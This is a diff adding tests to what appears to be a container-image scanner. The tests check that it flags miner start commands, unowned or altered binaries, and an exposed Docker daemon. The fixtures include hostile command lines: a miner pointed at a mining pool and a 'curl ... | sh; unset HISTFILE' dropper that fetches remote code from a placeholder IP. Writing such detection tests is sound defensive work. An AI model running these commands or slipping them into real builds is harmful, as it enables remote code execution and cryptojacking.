@@ -1,8 +1,10 @@
+import { createHash } from 'node:crypto';
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { dockerArchive, type MadeImage } from '../../../tests/support/image-archive.ts';
+import { tarOf } from '../../../tests/support/tar.ts';
 import { FolderTree } from '../tree/folder-tree.ts';
 import { loadYara } from '../../match/yara/yara.ts';
 import { CheckRun, type CheckRunOptions } from './check-run.ts';
@@ -185,12 +187,74 @@ describe('an image', () => {
     expect(await said('packed-program', image)).toEqual(['/dev/shm/x in layer 0: packed by']);
   });
 
+  it('is started as a miner, or made by a dropper', async () => {
+    const start = { Cmd: ['sh', '-c', 'x -o stratum+tcp://pool.example:3333 --donate-level 1'] };
+    expect(await said('miner', holding({}, start))).toEqual([
+      'image app:1 is started so: protocol of mining pools, share for the makers of a miner',
+    ]);
+    const history = ['RUN curl -s http://192.0.2.1/a | sh; unset HISTFILE'];
+    expect(await said('backdoor-script', { ...sound, history })).toEqual([
+      'image app:1 is started so: runs what it loads from the network, covers its tracks',
+    ]);
+  });
+
+  it('holds other programs than its packages brought, and some that none brought', async () => {
+    const program = '\u007fELF of the package';
+    const digest = createHash('sha1').update(program).digest('base64');
+    const base = {
+      'etc/os-release': 'ID=alpine\nVERSION_ID=3.20.0\n',
+      'lib/apk/db/installed': `P:tool\nV:1.0-r0\nA:x86_64\nF:bin\nR:tool\na:0:0:755\nZ:Q1${digest}\nR:kept\na:0:0:755\nZ:Q1${digest}\n\n`,
+      'bin/tool': { content: program, mode: 0o755 },
+      'bin/kept': { content: program, mode: 0o755 },
+      'usr/local/bin/own': { content: '\u007fELF of mine', mode: 0o755 },
+    };
+    const image = {
+      ...sound,
+      layers: [
+        base,
+        {
+          'bin/tool': { content: '\u007fELF of another', mode: 0o755 },
+          'bin/more': { content: '\u007fELF more', mode: 0o755 },
+        },
+      ],
+    };
+    expect(await said('changed-program', image)).toEqual([
+      'image app:1 holds another /bin/tool than the package tool 1.0-r0 brought, in layer 1',
+    ]);
+    expect(await said('unowned-program', image)).toEqual([
+      'image app:1 has /bin/more, which no package brought, in layer 1',
+    ]);
+    expect(await said('unowned-program', holding({ 'bin/more': { content: '\u007fELF more', mode: 0o755 } }))).toEqual(
+      [],
+    );
+  });
+
   it('is asked about by rules of YARA, removed files too', async () => {
     const load = await loadYara([{ name: 'a.yar', text: 'rule Marked { strings: $a = "mark-77" condition: $a }' }]);
     const image = { ...sound, layers: [{ 'a.bin': 'mark-77\u0000' }, { '.wh.a.bin': '' }] };
     const found = await claimsOfImage(image, { yara: load?.rules });
     expect(found.map(({ sentence }) => sentence)).toEqual(['/a.bin matches Marked, in layer 0, removed later']);
   });
+});
+
+it('a root filesystem tells of the engine of its host', async () => {
+  const files = {
+    'etc/docker/daemon.json': '{"icc": false}',
+    'etc/group': 'docker:x:998:eve\n',
+    'usr/lib/systemd/system/docker.service': '[Service]\nExecStart=/usr/bin/dockerd -H fd://\n',
+    'etc/systemd/system/docker.service.d/open.conf':
+      '[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2375\n',
+  };
+  writeFileSync(join(folder, 'root.tar'), tarOf(files));
+  const opened = await openImage(`rootfs:${join(folder, 'root.tar')}`, { spoolFolder: folder });
+  const run = new CheckRun({ now });
+  run.addImage(opened);
+  opened.close();
+  const told = run.finish('root').claims.filter(({ severity }) => severity === 'critical' || severity === 'medium');
+  expect(told.map(({ sentence }) => sentence)).toEqual([
+    'the engine listens on every address, port 2375, without asking for a certificate',
+    'the engine lets eve use its socket (group docker), which is as good as root',
+  ]);
 });
 
 describe('a folder', () => {
